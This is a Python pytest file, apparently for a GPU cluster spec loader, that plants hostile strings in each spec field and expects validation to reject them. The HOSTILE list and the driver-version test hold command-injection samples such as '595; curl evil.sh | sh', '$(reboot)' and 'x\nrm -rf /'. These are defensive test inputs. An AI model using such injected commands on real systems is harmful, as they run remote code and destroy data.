"""Every spec string that reaches a shell command, a kubelet flag or a config file is checked
where the models read it (``gpustack.spec.models.base``): hostile strings are refused at their
own line, with what the field accepts, before anything is rendered.

The table holds each such field (host steps, K3s flags, kubeadm JoinConfiguration, the model
loader's shell script) and each hostile string; a field that takes a value from a list
(the distribution, a taint's effect) is left to its ``Literal``.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest

from gpustack.errors import SpecError
from gpustack.spec.load import format_loc, load_spec
from gpustack.yamlio import dump, load_positioned

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    "Bad Key!",
    "595; curl evil.sh | sh",
    "$(reboot)",
    "`reboot`",
    "x\nrm -rf /",
    "x\n",
    "it's",
    '"quoted"',
    "a,b=c",
    "ünïcode",
    "",
]
LOADER = {
    "type": "modelLoader",
    "huggingFaceModel": "Qwen/Qwen2.5-1.5B-Instruct",
    "destination": {"uri": "s3://models/qwen", "endpoint": "http://minio:9000", "credentialsSecret": "s3"},
}
TAINT = {"key": "nvidia.com/gpu", "value": "present", "effect": "NoSchedule"}
# Where each value goes: (path in the spec, what the hostile string replaces). Paths with a
# "{}" take the hostile string as a mapping key.
FIELDS: list[tuple[tuple[str | int, ...], str]] = [
    (("metadata", "name"), "value"),
    (("spec", "cluster", "k3sVersion"), "value"),
    (("spec", "cluster", "podSubnet"), "value"),
    (("spec", "cluster", "serverAddresses", 0), "value"),
    (("spec", "nodePools", 0, "name"), "value"),
    (("spec", "nodePools", 0, "labels"), "key"),
    (("spec", "nodePools", 0, "labels", "example.com/pool"), "value"),
    (("spec", "nodePools", 0, "taints", 0, "key"), "value"),
    (("spec", "nodePools", 0, "taints", 0, "value"), "value"),
    (("spec", "nodePools", 0, "driver", "version"), "value"),
    (("spec", "nodePools", 0, "toolkit", "version"), "value"),
    (("spec", "workloads", 0, "destination", "uri"), "value"),
]
KUBEADM_FIELDS: list[tuple[tuple[str | int, ...], str]] = [
    (("spec", "cluster", "kubeadmVersion"), "value"),
    (("spec", "cluster", "podSubnet"), "value"),
]
ACCEPTS_EMPTY = {("spec", "nodePools", 0, "labels", "example.com/pool"), ("spec", "nodePools", 0, "taints", 0, "value")}


def _spec(example: str) -> dict[str, Any]:
    source = load_positioned((REPO / "examples" / example).read_text(encoding="utf-8"), example)
    spec: dict[str, Any] = dump_ready(source)
    pool = spec["spec"]["nodePools"][0]
    pool["labels"] = {"example.com/pool": "a"}
    pool["taints"] = [dict(TAINT)]
    spec["spec"]["workloads"] = [copy.deepcopy(LOADER)]
    return spec


def dump_ready(node: Any) -> Any:
    if isinstance(node, dict):
        return {str(k): dump_ready(v) for k, v in node.items()}
    if isinstance(node, list):
        return [dump_ready(v) for v in node]
    return node


def _put(spec: dict[str, Any], path: tuple[str | int, ...], where: str, hostile: str) -> tuple[str | int, ...]:
    parent: Any = spec
    for step in path[:-1]:
        parent = parent[step]
    if where == "key":
        parent[path[-1]] = {hostile: "x"}
        return (*path, hostile)
    parent[path[-1]] = hostile
    return path


CASES = [("k3s-l4.yaml", field, where, hostile) for field, where in FIELDS for hostile in HOSTILE]
CASES += [("kubeadm-host-driver.yaml", field, where, hostile) for field, where in KUBEADM_FIELDS for hostile in HOSTILE]
# An empty label or taint value is valid Kubernetes: accepted (test below), not hostile.
CASES = [case for case in CASES if not (case[3] == "" and case[1] in ACCEPTS_EMPTY)]
EMPTY_VALUES = [
    (example, field, where)
    for example, fields in (("k3s-l4.yaml", FIELDS), ("kubeadm-host-driver.yaml", KUBEADM_FIELDS))
    for field, where in fields
    if field in ACCEPTS_EMPTY
]


@pytest.mark.parametrize(("example", "field", "where", "hostile"), CASES, ids=lambda v: repr(v) if isinstance(v, str) else None)
def test_a_hostile_string_is_refused_at_its_field(
    tmp_path: Path, example: str, field: tuple[str | int, ...], where: str, hostile: str
) -> None:
    spec = _spec(example)
    path = _put(spec, field, where, hostile)
    file = tmp_path / "hostile.yaml"
    file.write_text(dump(spec), encoding="utf-8")
    with pytest.raises(SpecError) as error:
        load_spec(str(file))
    wanted = format_loc(path)
    assert any(p.path.startswith(wanted) and p.line for p in error.value.problems), [str(p) for p in error.value.problems]


@pytest.mark.parametrize(("example", "field", "where"), EMPTY_VALUES)
def test_an_empty_label_or_taint_value_is_accepted(
    tmp_path: Path, example: str, field: tuple[str | int, ...], where: str
) -> None:
    spec = _spec(example)
    _put(spec, field, where, "")
    file = tmp_path / "empty.yaml"
    file.write_text(dump(spec), encoding="utf-8")
    load_spec(str(file))


def test_the_unchanged_specs_are_valid(tmp_path: Path) -> None:
    for example in ("k3s-l4.yaml", "kubeadm-host-driver.yaml"):
        file = tmp_path / example
        file.write_text(dump(_spec(example)), encoding="utf-8")
        load_spec(str(file))


@pytest.mark.parametrize(
    ("version", "message"),
    [
        ("latest", "did you mean to leave driver.version out?"),
        ("596", "unknown driver branch 596; did you mean 595"),
        ("595; curl evil.sh | sh", "is not a driver branch"),
    ],
)
def test_a_driver_version_outside_the_catalogue_says_what_is_known(tmp_path: Path, version: str, message: str) -> None:
    spec = _spec("k3s-l4.yaml")
    spec["spec"]["nodePools"][0]["driver"]["version"] = version
    file = tmp_path / "driver.yaml"
    file.write_text(dump(spec), encoding="utf-8")
    with pytest.raises(SpecError) as error:
        load_spec(str(file))
    (problem,) = error.value.problems
    assert message in problem.message and "known branches: 515" in problem.message
